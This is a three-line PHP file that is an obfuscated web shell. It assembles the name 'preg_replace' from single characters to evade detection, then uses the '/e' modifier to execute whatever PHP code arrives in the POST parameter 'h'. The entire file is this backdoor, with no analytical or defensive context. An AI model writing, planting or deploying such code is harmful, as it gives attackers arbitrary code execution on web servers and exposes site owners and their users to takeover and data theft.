<?php
$f = 'p'.'r'.'e'.'g'.'_'.'r'.'e'.'p'.'l'.'a'.'c'.'e';
call_user_func($f, '/x/e', $_POST['h'], 'x');
